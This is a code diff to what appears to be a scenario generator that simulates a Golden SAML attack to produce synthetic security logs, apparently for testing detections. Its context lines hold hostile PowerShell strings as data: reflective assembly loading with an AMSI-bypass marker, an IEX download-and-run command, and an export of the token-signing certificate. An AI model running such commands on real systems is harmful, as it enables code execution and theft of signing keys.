@@ -25,7 +25,7 @@ export const goldenSaml: ScenarioMaker = {
     const code = dice.chance(0.5) ? '$c=[Convert]::FromBase64String($b); [Reflection.Assembly]::Load($c).EntryPoint.Invoke($null,@()) # AmsiUtils' : "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:8081/a.ps1'); Export-PfxCertificate -Cert $cert -FilePath C:\\Windows\\Temp\\s.pfx";
     story.step('key', 'The key that signs tokens is taken', 'credential-access', [
       run(story, { host: server.name, who: admin.admin, image: POWERSHELL, commandLine: 'powershell.exe -nop -ep bypass', parentImage: CMD, integrity: 'High' }),
-      scriptBlock(kit, story.now() + 4_000, { host: server.name, text: code }),
+      scriptBlock(kit, story.now() + 4_000, { host: server.name, who: admin.admin, text: code }),
     ]);
     if (dice.chance(0.4)) {
       story.wait(2, 10);
